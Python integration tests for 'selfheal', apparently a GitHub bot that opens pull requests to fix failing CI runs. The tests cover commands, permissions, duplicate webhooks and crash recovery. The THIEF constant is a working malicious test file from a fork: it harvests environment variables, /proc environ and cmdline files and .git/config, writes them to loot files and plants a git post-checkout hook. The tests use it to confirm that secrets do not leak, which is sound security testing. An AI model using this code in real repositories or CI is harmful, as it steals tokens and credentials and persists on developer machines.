"""The server and GitHub together: everything that happens there comes by webhook, and what the bot does
about it is seen there."""
import os
import random
import sys
import unittest

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "support"))
from serving import ServedWorld  # noqa: E402
from stories import GREEN, RED  # noqa: E402

ALL = bool(os.environ.get("SELFHEAL_TEST_ALL"))
LOG = {"test": "FAIL: test_spread (test_stats.Spread.test_spread)\nAssertionError: 13 != 5\n"}
THIEF = '''import glob, os, subprocess, unittest

from stats import spread


def steal():
    found = repr(dict(os.environ))
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + [".git/config"]:
        try:
            with open(path, "rb") as file:
                found += path + repr(file.read())
        except OSError:
            pass
    print("::error::stolen")
    print("::set-output name=x::y")
    for place in ("LOOT", "stolen.txt"):
        try:
            with open(place, "a") as file:
                file.write(found)
        except OSError:
            pass
    try:
        with open(".git/hooks/post-checkout", "w") as file:
            file.write("#!/bin/sh\\ntouch LOOT-hook\\n")
        os.chmod(".git/hooks/post-checkout", 0o755)
    except OSError:
        pass
    raise AssertionError(found[-3000:] if "TOKEN" in found else "13 != 5")


class Spread(unittest.TestCase):
    def test_spread(self):
        if spread([4, 9, 6]) != 5:
            steal()
'''


class Case(unittest.TestCase):
    def world(self, *args, **more):
        world = ServedWorld(*args, **more)
        self.addCleanup(world.__exit__)
        return world

    def red(self, world, **more):
        """A red run, and all that comes of it."""
        run = world.shop.run_finished(jobs=LOG, **more)
        world.settle()
        return run

    def proposed(self, world):
        self.red(world)
        [pull] = world.own_pulls()
        self.assertEqual(pull.state, "open", world.said())
        return pull

    def sound(self, world):
        world.gh.assert_sound()
        self.assertEqual([job for job in world.jobs() if job[1] != "done"], [])
        secrets = [*world.gh.tokens, "BEGIN RSA PRIVATE KEY"]
        for secret in secrets:
            self.assertNotIn(secret, "".join(world.lines))

    def answers(self, world, issue):
        return [c for c in issue.comments if c.login == world.login]


class Runs(Case):
    def test_red_run_to_pull_request(self):
        for kind in ("app", "classic"):
            world = self.world(kind)
            pull = self.proposed(world)
            self.assertEqual(world.shop.file("stats.py", pull.pull.head_ref).decode(), GREEN)
            self.red(world)
            self.assertEqual(len(world.own_pulls()), 1)
            world.shop.person_pushes("bob", {"README.md": "# Other\n"})
            world.settle()
            self.red(world)
            self.assertEqual(len(world.own_pulls()), 1)
            self.assertEqual(self.answers(world, pull), [])
            self.sound(world)

    def test_enterprise(self):
        world = self.world(ghes=True)
        self.proposed(world)
        self.sound(world)

    def test_base_healed_by_a_person(self):
        world = self.world()
        pull = self.proposed(world)
        world.shop.person_pushes("bob", {"stats.py": GREEN})
        world.shop.run_finished("success")
        world.settle()
        self.assertEqual((pull.state, pull.closed_by, len(self.answers(world, pull))), ("closed", world.login, 1))
        self.sound(world)

    def test_green_and_outdated_runs_are_nothing(self):
        world = self.world()
        old = world.shop.sha()
        world.shop.person_pushes("bob", {"README.md": "# Other\n"})
        world.settle()
        self.red(world, sha=old)
        world.shop.run_finished("success", branch="main")
        world.shop.run_finished("cancelled")
        world.settle()
        self.assertEqual(world.own_pulls(), [])
        self.sound(world)

    def test_red_on_its_own_branch_is_corrected_within_bounds(self):
        world = self.world()
        pull = self.proposed(world)
        for _ in range(5):
            self.red(world, branch=pull.pull.head_ref, sha=pull.pull.head_sha)
        self.assertLessEqual(len([m for m in world.gh.moves if m["login"] == world.login]), 4)
        self.assertIn("needs-human", pull.labels)
        bodies = [c.body for c in self.answers(world, pull)]
        self.assertEqual(len(bodies), len(set(bodies)))
        self.assertLessEqual(len(bodies), 4)
        self.assertEqual(len(world.own_pulls()), 1)
        self.sound(world)

    def test_a_forks_pull_request(self):
        world = self.world()
        world.gh.user("mallory")
        fork = world.shop.person_forks("mallory")
        loot = str(world.folder / "loot")
        fork.person_pushes("mallory", {"test_stats.py": THIEF.replace("LOOT", loot)}, branch="feature")
        theirs = world.shop.person_opens_pull("mallory", "feature", head=fork)
        world.settle()
        self.red(world, head=fork, branch="feature", event="pull_request", actor="mallory")
        self.assertEqual([m for m in world.gh.moves if m["login"] == world.login], [])
        self.assertEqual(world.own_pulls(), [])
        stolen = open(loot, encoding="utf-8").read() if os.path.exists(loot) else ""
        told = stolen + "".join(c.body for c in theirs.comments + theirs.pull.comments)
        for secret in [*world.gh.tokens, world.env["WEBHOOK_SECRET"], "PRIVATE KEY", "PRIVATE_KEY_PATH"]:
            self.assertNotIn(secret, told)
        self.assertFalse(os.path.exists(loot + "-hook"))
        self.sound(world)


class People(Case):
    def says(self, world, login, number, text):
        comment = world.shop.person_comments(login, number, text)
        world.settle()
        return comment

    def reactions(self, comment):
        return [r["content"] for r in comment.reactions]

    def test_closed_is_never_again_until_retry(self):
        world = self.world()
        pull = self.proposed(world)
        world.shop.person_closes("alice", pull.number)
        world.settle()
        self.red(world)
        self.assertEqual((len(world.own_pulls()), pull.state), (1, "closed"))
        self.sound(world)

    def test_commands(self):
        world = self.world()
        pull = self.proposed(world)
        for text, verdict in (("/selfheal explain", "+1"), ("/selfheal help", "+1"), ("/Selfheal HELP please", "+1"),
                              ("/selfheal dance", "confused")):
            before = len(self.answers(world, pull))
            comment = self.says(world, "bob", pull.number, text)
            self.assertEqual(self.reactions(comment), ["eyes", verdict], text)
            self.assertEqual(len(self.answers(world, pull)), before + 1, text)
        for text in ("what does /selfheal do?", "> /selfheal retry", "```\n/selfheal retry\n```", "/selfhealing"):
            comment = self.says(world, "bob", pull.number, text)
            self.assertNotIn("+1", self.reactions(comment), text)
        self.sound(world)

    def test_strangers_have_no_say(self):
        world = self.world()
        world.gh.user("mallory")
        pull = self.proposed(world)
        body, before = pull.body, len(self.answers(world, pull))
        for text in ("/selfheal ignore", "/selfheal retry", "/selfheal stop"):
            comment = self.says(world, "mallory", pull.number, text)
            self.assertEqual(self.reactions(comment), ["-1"])
        world.shop.person_reviews("mallory", pull.number, "CHANGES_REQUESTED", "no")
        world.settle()
        self.assertEqual((pull.state, pull.body, len(self.answers(world, pull))), ("open", body, before))
        self.sound(world)

    def test_delivered_twice_is_done_once(self):
        world = self.world()
        pull = self.proposed(world)
        self.says(world, "bob", pull.number, "/selfheal help")
        for one in list(world.gh.deliveries):
            world.gh.deliver_again(one)
        world.settle()
        self.assertEqual(len(self.answers(world, pull)), 1)
        self.assertEqual(len(world.own_pulls()), 1)
        self.sound(world)

    def test_stop_and_ignore(self):
        world = self.world()
        pull = self.proposed(world)
        self.says(world, "bob", pull.number, "/selfheal stop")
        self.assertIn("no-auto-fix", pull.labels)
        self.says(world, "bob", pull.number, "/selfheal ignore")
        self.assertEqual(pull.state, "closed")
        self.red(world)
        self.assertEqual([p.state for p in world.own_pulls()], ["closed"])
        self.sound(world)

    def test_a_review_asks_for_another_change(self):
        world = self.world()
        pull = self.proposed(world)
        before = pull.pull.head_sha
        world.shop.person_reviews("bob", pull.number, "CHANGES_REQUESTED", "Not like this, please.")
        world.settle()
        self.assertEqual(len(world.own_pulls()), 1)
        self.assertEqual(len(self.answers(world, pull)), 1)
        self.assertTrue(pull.pull.head_sha != before or "needs-human" in pull.labels, world.said())
        for _ in range(4):
            world.shop.person_reviews("bob", pull.number, "CHANGES_REQUESTED", "Still not.")
            world.settle()
        self.assertLessEqual(len([m for m in world.gh.moves if m["login"] == world.login]), 5)
        self.sound(world)

    def test_merged_and_taken_back(self):
        world = self.world()
        pull = self.proposed(world)
        pull.pull.draft = False
        world.shop.person_merges("alice", pull.number)
        world.settle()
        self.assertEqual(world.shop.file("stats.py").decode(), GREEN)
        comment = self.says(world, "bob", pull.number, "/selfheal revert")
        self.assertEqual(self.reactions(comment)[-1], "+1", world.said())
        [revert] = [p for p in world.own_pulls() if p.state == "open"]
        self.assertEqual(world.shop.file("stats.py", revert.pull.head_ref).decode(), RED)
        self.sound(world)

    def test_apply_on_a_persons_pull_request(self):
        world = self.world()
        world.shop.person_pushes("bob", {"other.txt": "x\n"}, branch="feature")
        theirs = world.shop.person_opens_pull("bob", "feature")
        world.settle()
        comment = self.says(world, "bob", theirs.number, "/selfheal apply")
        self.assertEqual(self.reactions(comment)[-1], "+1", world.said())
        self.assertEqual(world.shop.file("stats.py", "feature").decode(), GREEN)
        self.assertEqual(world.own_pulls(), [])
        self.sound(world)


class Killed(Case):
    """The server killed while it does a job: another takes the job over when its lease has run out."""

    def seen(self, world):
        """What is there in the end, without what depends on times."""
        return ([(p.state, p.pull.head_ref, len(p.comments), sorted(p.labels), world.shop.file("stats.py", p.pull.head_ref))
                 for p in world.own_pulls()], sorted(world.shop.disk.refs("refs/heads/")), len(world.shop.repo.checks))

    def kill_at(self, n):
        world = self.world()
        fault = world.gh.fail("call", at=n, act=world.kill)
        world.shop.run_finished(jobs=LOG)
        world.gh.deliveries_done()
        world.servers[-1].wait(60)
        self.assertTrue(fault.fired)
        world.serve()
        world.settle(240)
        return world

    def test_at_some_call(self):
        clean = self.world()
        self.proposed(clean)
        calls = len(clean.gh.log)
        for n in range(4, calls + 1) if ALL else [random.Random("killed").randint(calls // 2, calls)]:
            with self.subTest(f"killed at {n} of {calls}"):
                world = self.kill_at(n)
                self.assertEqual(self.seen(world), self.seen(clean), world.said())
                self.sound(world)


if __name__ == "__main__":
    unittest.main()
